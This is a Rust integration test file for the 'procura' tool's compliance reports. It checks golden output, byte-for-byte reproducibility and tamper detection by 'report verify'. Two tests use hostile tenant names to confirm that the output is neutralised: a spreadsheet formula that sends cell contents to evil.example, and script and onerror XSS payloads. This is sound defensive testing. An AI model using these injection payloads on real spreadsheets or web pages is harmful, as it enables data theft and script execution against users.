//! Compliance reports from the command line: what they say of the story, in every form; that they are made again byte for
//! byte; and that `procura report verify` tells a sound one from any other.

use expect_test::expect_file;
use procura_app::reports::Statement;
use procura_tests::{Ran, apply, procura, run, story, world};
use scraper::{Html, Selector};
use serde_json::{Value, json};
use std::{
    collections::BTreeSet,
    fs,
    path::{Path, PathBuf},
};
use tempfile::TempDir;

/// The reports, at a position of the story where each has something to say.
const REPORTS: [(&str, &[&str]); 6] = [
    ("access-review", &["--customer", world::CONTOSO, "--at", "27"]),
    ("access-review-of-partner", &["--partner", world::FABRIKAM, "--at", "29"]),
    ("residual-access", &["--at", "2020-08-10T08:59:59.999999Z"]),
    ("dap-inventory", &["--at", "27"]),
    ("changes", &["--from", "12", "--until", "2020-08-31T00:00:00Z"]),
    ("support-duties", &["--at", "33"]),
];
const FORMS: [(&str, &str); 4] = [("json", "en"), ("csv", "en"), ("html", "en"), ("html", "fr")];

/// A data directory in which the story was told, and room for files beside it.
pub(crate) struct Told {
    home: TempDir,
}

impl Told {
    fn story() -> Self {
        let told = Self { home: tempfile::tempdir().unwrap() };
        apply(&told.data(), &fs::read_to_string(story::file()).unwrap()).all_recorded();
        told
    }

    fn data(&self) -> PathBuf {
        self.home.path().join("data")
    }

    #[track_caller]
    fn report(&self, name: &str, flags: &[&str], (format, lang): (&str, &str)) -> String {
        let ran = report(&self.data(), name, flags, (format, lang));
        assert_eq!((ran.code, ran.stderr.as_str()), (0, ""), "{name}");
        ran.stdout
    }

    fn verify(&self, text: impl AsRef<[u8]>) -> Ran {
        verify(&self.data(), self.home.path(), text)
    }
}

fn report(data: &Path, name: &str, flags: &[&str], (format, lang): (&str, &str)) -> Ran {
    let name = name.split("-of-").next().unwrap();
    let mut command = procura();
    command.args(["report", name, "--format", format, "--lang", lang]).args(flags).arg("--data").arg(data);
    run(&mut command, "")
}

fn verify(data: &Path, folder: &Path, text: impl AsRef<[u8]>) -> Ran {
    let file = folder.join("report");
    fs::write(&file, text).unwrap();
    run(procura().args(["report", "verify"]).arg(&file).arg("--data").arg(data), "")
}

/// The report without what is another in every log: its id, root and signature. Lines end as the golden files' do.
fn masked(text: &str) -> String {
    let note = Statement::read(text.as_bytes()).unwrap().checkpoint;
    let lines: Vec<_> = note.lines().collect();
    let signature = lines.last().unwrap().rsplit_once(' ').unwrap().1;
    let text = text.replace(lines[0], "procura/<log>").replace(lines[2], "<root>").replace(signature, "<signature>");
    text.replace("\r\n", "\n")
}

fn rows(csv: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let texts = |record: &csv::StringRecord| record.iter().map(str::to_owned).collect::<Vec<_>>();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let header = texts(reader.headers().unwrap());
    (header, reader.records().map(|record| texts(&record.unwrap())).collect())
}

fn column<'a>((header, rows): &'a (Vec<String>, Vec<Vec<String>>), name: &str) -> Vec<&'a str> {
    let place = header.iter().position(|column| column == name).unwrap_or_else(|| panic!("{name}: {header:?}"));
    rows.iter().map(|row| row[place].as_str()).collect()
}

fn leaves(group: &str, user: world::User) -> world::Line {
    let data = json!({"partner": world::FABRIKAM, "group": group, "user": user.user});
    world::by(world::GRETA, "RemoveGroupMember", data)
}

#[test]
fn every_report_says_this_of_the_story() {
    let told = Told::story();
    for (name, flags) in REPORTS {
        for (format, lang) in FORMS {
            let language = if format == "html" { format!("{lang}.") } else { String::new() };
            let golden = format!("{}/golden/reports/{name}.{language}{format}", env!("CARGO_MANIFEST_DIR"));
            expect_file![golden].assert_eq(&masked(&told.report(name, flags, (format, lang))));
        }
    }
}

/// Every form of every report: sound as it was made, also after more was recorded, and as often as it is made.
#[test]
fn a_report_is_made_again_byte_for_byte() {
    let told = Told::story();
    let made = || {
        let forms = REPORTS.iter().flat_map(|report| FORMS.iter().map(move |form| (report, form)));
        forms.map(|((name, flags), form)| told.report(name, flags, *form)).collect::<Vec<_>>()
    };
    let before = made();
    // What was in force ends, what had ended begins again, somebody else comes.
    let later = [
        world::by(world::CARLA, "AcceptInvite", json!({"invitation": world::guid(1, 7), "customer": world::CONTOSO})),
        world::joins(world::GRETA, "AdminAgents", world::FRANK),
        leaves("AdminAgents", world::ALEX),
        leaves("HelpdeskAgents", world::HELEN),
        world::by(world::NOAH, "EndRelationship", json!({"customer": world::CONTOSO, "partner": world::NORTHWIND})),
        world::by_operator(
            "RegisterCustomer",
            json!({"customer": world::LITWARE, "name": "Litware", "domain": "litware.example", "globalAdministrator": world::LENA.user}),
        ),
    ];
    let invitation =
        json!({"invitation": world::guid(1, 7), "partner": world::FABRIKAM, "delegatedAdmin": true, "locale": "en"});
    let lines = [vec![world::by(world::SAM, "SendInvite", invitation)], later.to_vec()].concat();
    apply(&told.data(), &world::text(&lines)).all_recorded();
    assert_eq!(made(), before);
    for text in &before {
        let ran = told.verify(text);
        assert_eq!((ran.code, ran.stderr.as_str()), (0, ""), "{}", ran.stdout);
        assert!(ran.stdout.starts_with("yes: the log gives this "), "{}", ran.stdout);
    }
}

/// Now is an instant as well: what was reported about it stays, whatever is recorded after it.
#[test]
fn a_report_about_now_is_made_again_later() {
    let told = Told::story();
    for (format, lang) in FORMS {
        let text = told.report("residual-access", &[], (format, lang));
        let line = world::joins(world::GRETA, "SalesAgents", world::User { user: world::ODILE.user, ..world::GRETA });
        apply(&told.data(), &world::text(std::slice::from_ref(&line))).all_recorded();
        let left = world::by(world::GRETA, "RemoveGroupMember", line.data);
        apply(&told.data(), &world::text(&[left])).all_recorded();
        let ran = told.verify(&text);
        assert_eq!(ran.code, 0, "{}", ran.stderr);
    }
}

#[test]
fn a_report_that_is_not_as_the_log_gives_it_is_not_sound() {
    let told = Told::story();
    for (format, lang) in FORMS {
        let text = told.report("access-review", REPORTS[0].1, (format, lang)).into_bytes();
        // All over the file: in rows, in the picture, in the statement.
        for part in 0..12 {
            let mut changed = text.clone();
            let place = text.len() * part / 12 + 3;
            changed[place] = if changed[place] == b'7' { b'8' } else { b'7' };
            let ran = told.verify(&changed);
            assert_eq!((ran.code, ran.stdout.as_str()), (1, ""), "{format} {place}: {}", ran.stderr);
        }
        let ran = told.verify(&text[..text.len() - 1]);
        assert_eq!(ran.code, 1, "{}", ran.stderr);
    }
    let text = told.report("access-review", REPORTS[0].1, ("csv", "en"));
    for (from, to, says) in [
        ("Contributor", "Reader", "row 9, column `role`, is not what the log gives"),
        (r#""rules"":""2"#, r#""rules"":""1"#, "made by version 1 of the rules, and this is version 2"),
        ("2020-07-20T10:00:00.000000Z", "2920-07-20T10:00:00.000000Z", "cannot make such a report: 2920-"),
        ("2020-07-20T10:00:00.000000Z", "2020-07-20T09:59:59.000000Z", "was at position 27 at 2020-07-20T09:59:59"),
        (world::CONTOSO, world::LITWARE, "the log knows nobody whom this report is about"),
        (r#""report"":""access-review"#, r#""report"":""access"#, "is not a report whose statement can be read"),
    ] {
        let ran = told.verify(text.replace(from, to));
        assert_eq!(ran.code, 1);
        assert!(ran.stderr.starts_with("no: ") && ran.stderr.contains(says), "{}", ran.stderr);
    }
}

/// The same was done in another log: it is not that log's report all the same. Nor is it signed by that log's key.
#[test]
fn a_report_of_another_log_is_not_sound() {
    let (one, other) = (Told::story(), Told::story());
    for (format, lang) in FORMS {
        let text = one.report("changes", REPORTS[4].1, (format, lang));
        let ran = other.verify(&text);
        assert_eq!(ran.code, 1);
        let says = |part: &str| assert!(ran.stderr.contains(part), "{part}: {}", ran.stderr);
        says("signature: cannot be judged without the key of its log");
        says("root:      the report is of the log \"procura/");
        // The same was done in it, so that the body is the same.
        says("body:      every byte is what the log gives");
        let ids: BTreeSet<_> = ran.stderr.split("\"procura/").skip(1).map(|rest| &rest[..36]).collect();
        assert_eq!(ids.len(), 2, "two logs have two ids: {}", ran.stderr);
    }
    let text = one.report("support-duties", &[], ("json", "en"));
    let key = |told: &Told| run(procura().args(["checkpoint", "key", "--data"]).arg(told.data()), "").stdout;
    for (key, code) in [(key(&one), 0), (key(&other), 1)] {
        let file = one.home.path().join("report");
        fs::write(&file, &text).unwrap();
        let mut command = procura();
        command.args(["report", "verify", "--key", key.trim()]).arg(&file).arg("--data").arg(one.data());
        let ran = run(&mut command, "");
        assert_eq!(ran.code, code, "{}", ran.stderr);
        assert_eq!(ran.stderr.contains("the checkpoint is not signed by"), code == 1, "{}", ran.stderr);
    }
    let ran = run(procura().args(["report", "verify", "/nowhere/report", "--data"]).arg(one.data()), "");
    assert_eq!(ran.code, 2, "{}", ran.stderr);
}

/// A restored log goes on in another epoch: what was reported before is reported again as it was.
#[test]
fn a_report_is_sound_after_a_restore() {
    let told = Told::story();
    let text = told.report("access-review", REPORTS[0].1, ("html", "en"));
    let (backup, restored) = (told.home.path().join("backup"), told.home.path().join("restored"));
    let ran = run(procura().arg("backup").arg("--data").arg(told.data()).arg(&backup), "");
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    let ran = run(procura().arg("restore").arg(&backup).arg("--data").arg(&restored), "");
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    // Without the key that is in no backup, another signs.
    let key = told.home.path().join("log.vkey");
    fs::write(&key, run(procura().args(["checkpoint", "key", "--data"]).arg(told.data()), "").stdout).unwrap();
    for form in FORMS {
        let text = told.report("access-review", REPORTS[0].1, form);
        let ran = verify(&restored, told.home.path(), &text);
        assert_eq!(ran.code, 1);
        assert!(ran.stderr.starts_with("no: not as the log gives it: signature\n"), "{}", ran.stderr);
        assert!(ran.stderr.contains("not made with the key that the log has today"), "{}", ran.stderr);
        let file = told.home.path().join("report");
        let mut command = procura();
        command.args(["report", "verify"]).arg(file).arg("--data").arg(&restored).arg("--key").arg(&key);
        let ran = run(&mut command, "");
        // Nor are the keys that people's names are sealed with.
        assert_eq!(ran.code, 3, "{}", ran.stderr);
        assert!(ran.stderr.contains("signature: made with the key named; the log has another"), "{}", ran.stderr);
        assert!(ran.stderr.contains("\"Carla Moreau\" in the report, no name now"), "{}", ran.stderr);
    }
    fs::copy(told.data().join("keys"), restored.join("keys")).unwrap();
    fs::copy(told.data().join("checkpoint.key"), restored.join("checkpoint.key")).unwrap();
    apply(&restored, &world::text(&[world::joins(world::GRETA, "AdminAgents", world::FRANK)])).all_recorded();
    let ran = verify(&restored, told.home.path(), &text);
    assert_eq!(ran.code, 0, "{}", ran.stderr);
}

/// The file, the signature beside it and the key are enough: there is no log, and no server.
#[test]
fn a_signed_report_is_checked_without_its_log() {
    let (told, other) = (Told::story(), Told::story());
    let path = |name: &str| told.home.path().join(name);
    let write_key = |told: &Told, file: &Path| {
        fs::write(file, run(procura().args(["checkpoint", "key", "--data"]).arg(told.data()), "").stdout).unwrap();
    };
    let (file, key, others_key) = (path("review.html"), path("log.vkey"), path("other.vkey"));
    let mut command = procura();
    command.args(["report", "access-review", "--format", "html", "--sign"]).args(REPORTS[0].1);
    let ran = run(command.arg("--data").arg(told.data()).arg("--output").arg(&file), "");
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    other.report("support-duties", &[], ("json", "en"));
    write_key(&told, &key);
    write_key(&other, &others_key);
    let check = |file: &Path, key: &Path| run(procura().args(["report", "verify"]).arg(file).arg("--key").arg(key), "");
    let ran = check(&file, &key);
    assert!(ran.code == 0 && ran.stdout.starts_with("yes: the key of the log "), "{}", ran.stderr);
    let ran = check(&file, &others_key);
    assert!(ran.code == 1 && ran.stderr.contains("the signature was not made with procura/"), "{}", ran.stderr);
    let changed = path("changed.html");
    fs::write(&changed, fs::read_to_string(&file).unwrap().replace("Contributor", "Reader")).unwrap();
    let ran = check(&changed, &key);
    assert!(ran.code == 2 && ran.stderr.contains("--sign"), "{}", ran.stderr);
    let signature = path("review.html.sig");
    let mut command = procura();
    command.args(["report", "verify"]).arg(&changed).arg("--key").arg(&key).arg("--signature").arg(&signature);
    let ran = run(&mut command, "");
    assert!(ran.code == 1 && ran.stderr.contains("the signature is of another file"), "{}", ran.stderr);
    let ran = run(procura().args(["report", "verify"]).arg(&file), "");
    assert!(ran.code == 2 && ran.stderr.contains("--key FILE"), "{}", ran.stderr);
}

/// A spreadsheet writes what it read in its own way. That is no forgery, and not the file that was made.
#[test]
fn a_report_that_was_saved_again_is_recognized() {
    let told = with_names(["=1+1", "Contoso"]);
    let text = told.report("access-review", ALL[0].1, ("csv", "en"));
    for (changed, how) in [
        (text.replace("\r\n", "\n"), "other line ends"),
        (format!("\u{feff}{text}"), "a byte order mark"),
        (text.replace(",'=1+1", ",=1+1"), "no leading apostrophes"),
    ] {
        let ran = told.verify(&changed);
        assert!(ran.code == 1 && ran.stderr.contains(&format!("in other bytes ({how})")), "{how}: {}", ran.stderr);
    }
    let mut writer = csv::WriterBuilder::new().delimiter(b';').quote_style(csv::QuoteStyle::Always).from_writer(vec![]);
    let (header, rows) = rows(&text);
    [vec![header], rows].concat().iter().for_each(|row| writer.write_record(row).unwrap());
    let ran = told.verify(writer.into_inner().unwrap());
    let how = "(other separators, other line ends, other quotes)";
    assert!(ran.code == 1 && ran.stderr.contains(how), "{}", ran.stderr);
}

#[test]
fn a_difference_is_shown_with_the_name_of_its_column() {
    let told = Told::story();
    for (format, from, to, place, says, log_gives) in [
        ("csv", "Contributor", "Reader", "row 9, column `role`,", "Reader", "Contributor"),
        ("json", "\"Contributor\"", "\"Reader\"", "`items[7].role`", "\"Reader\"", "\"Contributor\""),
        (
            "html",
            "<td class=\"word\">Contributor<",
            "<td class=\"word\">Reader<",
            "line 132, column `Role`,",
            "Reader",
            "Contributor",
        ),
    ] {
        let text = told.report("access-review", REPORTS[0].1, (format, "en")).replacen(from, to, 1);
        let ran = told.verify(&text);
        let expected = format!(
            "body:      {place} is not what the log gives\n    it says:        {says}\n    the log gives:  {log_gives}\n"
        );
        assert!(ran.code == 1 && ran.stderr.contains(&expected), "{format}: {}", ran.stderr);
    }
}

/// Names may be anything. Two tenants that mean harm, in a report of each kind.
fn with_names(names: [&str; 2]) -> Told {
    let told = Told { home: tempfile::tempdir().unwrap() };
    let mut lines = world::with_relationships();
    for line in &mut lines {
        let renamed = match line.data["name"].as_str() {
            Some("Fabrikam") => names[0],
            Some("Contoso") => names[1],
            _ => continue,
        };
        line.data["name"] = renamed.into();
    }
    lines.push(world::by(world::CARLA, "RevokeDap", json!({"customer": world::CONTOSO, "partner": world::FABRIKAM})));
    apply(&told.data(), &world::text(&lines)).all_recorded();
    told
}

const ALL: [(&str, &[&str]); 6] = [
    ("access-review", &["--customer", world::CONTOSO]),
    ("access-review", &["--partner", world::FABRIKAM]),
    ("residual-access", &[]),
    ("dap-inventory", &[]),
    ("changes", &["--from", "0"]),
    ("support-duties", &[]),
];

#[test]
fn csv_is_read_by_a_stock_reader_and_runs_nothing() {
    let formula = r#"=HYPERLINK("http://evil.example?"&A1,"Click, ""me""")"#;
    let told = with_names([formula, "@SUM(1+1)|é\"';\u{2028}"]);
    let mut found = BTreeSet::new();
    for (name, flags) in ALL {
        let text = told.report(name, flags, ("csv", "en"));
        assert!(text.lines().count() > 1 && text.ends_with("\r\n"));
        let table = rows(&text);
        let (header, rows) = &table;
        assert_eq!(header.iter().collect::<BTreeSet<_>>().len(), header.len(), "{header:?}");
        assert_eq!((header[0].as_str(), header.last().unwrap().as_str()), ("row", "statement"));
        assert!(header.iter().all(|name| name.chars().all(|c| c.is_ascii_alphanumeric())), "{header:?}");
        assert!(rows.iter().all(|row| row.len() == header.len()));
        let cells = rows.iter().flatten();
        assert!(!cells.clone().any(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{text}");
        found.extend(cells.filter(|cell| cell.starts_with('\'')).cloned());
        let statement = Statement::read(text.as_bytes()).unwrap();
        for (stated, at) in column(&table, "statement").iter().zip(column(&table, "atPosition")) {
            let stated: Statement = serde_json::from_str(stated).unwrap();
            assert_eq!((&stated, at), (&statement, stated.at.position.to_string().as_str()));
        }
    }
    let expected = [formula, "@SUM(1+1)|é\"';\u{2028}"].map(|name| format!("'{name}"));
    assert_eq!(found, BTreeSet::from(expected));
}

#[test]
fn a_report_that_finds_nothing_says_so() {
    let told = Told::story();
    let nothing: &[&str] = &["--partner", world::NORTHWIND, "--at", "27"];
    let table = rows(&told.report("residual-access", nothing, ("csv", "en")));
    assert_eq!(column(&table, "row"), ["nothingFound"]);
    assert_eq!(column(&table, "customer"), [""]);
    let found: Value = serde_json::from_str(&told.report("residual-access", nothing, ("json", "en"))).unwrap();
    assert_eq!(found["items"], json!([]));
    assert!(told.report("residual-access", nothing, ("html", "fr")).contains("Aucun élément."));
    // The empty log, too.
    let empty = told.report("changes", &["--from", "0", "--at", "0"], ("json", "en"));
    assert_eq!(told.verify(empty).code, 0);
}

#[test]
fn a_page_is_sound_html_that_fetches_and_runs_nothing() {
    let told = with_names(["</script><script>alert(1)</script>", "<!--<img src=x onerror=alert(1)>&amp;\"'"]);
    let select = |page: &Html, what: &str| {
        page.select(&Selector::parse(what).unwrap()).map(|element| element.html()).collect::<Vec<_>>()
    };
    for (name, flags) in ALL {
        for lang in ["en", "fr"] {
            let text = told.report(name, flags, ("html", lang));
            let page = Html::parse_document(&text);
            assert!(page.errors.is_empty(), "{name}: {:?}", page.errors);
            assert_eq!(select(&page, &format!("html[lang={lang}] > head > title")).len(), 1);
            assert_eq!(select(&page, "script").len(), 1, "the statement alone");
            assert_eq!(select(&page, "script#statement[type='application/json']").len(), 1);
            assert_eq!(select(&page, "img, link, iframe, [src], [href], [onerror], [onload]"), [""; 0]);
            assert_eq!(select(&page, "th:not([scope])"), [""; 0]);
            assert_eq!(select(&page, "table").len(), select(&page, "table > caption").len());
            assert_eq!(select(&page, "svg").len(), select(&page, "svg > title + desc").len());
            assert_eq!(select(&page, "h1").len(), 1);
            assert!(!text.contains("url("), "nothing from elsewhere");
            assert_eq!(told.verify(&text).code, 0);
        }
    }
}

#[test]
fn what_is_wrong_with_a_request_is_said() {
    let told = Told::story();
    for (name, flags, says) in [
        ("access-review", &[][..], "`customer` or `partner` is missing"),
        ("access-review", &["--customer", "nobody"], "`--customer`: "),
        ("access-review", &["--customer", world::LITWARE], "notFound: "),
        ("access-review", &["--partner", world::CONTOSO], "notFound: "),
        // Not there yet.
        ("access-review", &["--customer", world::CONTOSO, "--at", "4"], "notFound: "),
        ("residual-access", &["--at", "45"], "position 45 is beyond the newest, 44"),
        ("residual-access", &["--at", "2999-01-01T00:00:00Z"], "is after now"),
        ("residual-access", &["--at", "soon"], "it is a day like 2020-07-31"),
        ("changes", &["--from", "9", "--until", "7"], "`from` is after `until`"),
        ("changes", &["--from", "3", "--until", "9", "--at", "8"], "`until` is after `at`"),
        ("changes", &[], "--from"),
    ] {
        let ran = report(&told.data(), name, flags, ("json", "en"));
        assert_eq!((ran.code, ran.stdout.as_str()), (2, ""), "{name} {flags:?}");
        assert!(ran.stderr.contains(says), "{name} {flags:?}: {}", ran.stderr);
    }
    let file = told.home.path().join("no/such/folder/report.html");
    let ran = report(&told.data(), "support-duties", &["--output", file.to_str().unwrap()], ("html", "en"));
    assert_eq!(ran.code, 2, "{}", ran.stderr);
    let file = told.home.path().join("report.html");
    let ran = report(&told.data(), "support-duties", &["--output", file.to_str().unwrap()], ("html", "en"));
    assert_eq!((ran.code, ran.stdout.as_str(), ran.stderr.as_str()), (0, "", ""));
    assert!(fs::read_to_string(file).unwrap().starts_with("<!DOCTYPE html>"));
}
